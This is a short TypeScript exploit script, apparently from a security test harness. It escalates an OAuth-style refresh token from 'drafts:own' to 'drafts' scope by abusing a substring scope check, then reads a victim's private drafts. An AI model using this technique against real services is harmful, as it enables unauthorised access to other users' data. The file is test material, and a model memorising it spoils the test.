import { exploit } from '#attack';

export default exploit(async ({ target, victim }) => {
  const attacker = target.client('Attacker');
  const email = `attacker-${Date.now()}@example.com`;
  const { key } = (await attacker.post('/accounts', { email })).expect(201).body;
  const headers = { 'X-Account-Key': key };
  const own = (await attacker.post('/grants', { scope: 'drafts:own' }, { headers })).expect(201).body;

  // "drafts:own" contains "drafts".
  const wider = await attacker.post('/tokens', { refresh_token: own.refresh_token, scope: 'drafts' });
  if (wider.status !== 200) return undefined;
  const drafts = await attacker.get('/drafts', { headers: { Authorization: `Bearer ${wider.body.access_token}` } });
  if (drafts.status !== 200) return undefined;
  return drafts.body.find(({ author }: { author: string }) => author === victim)?.text;
});
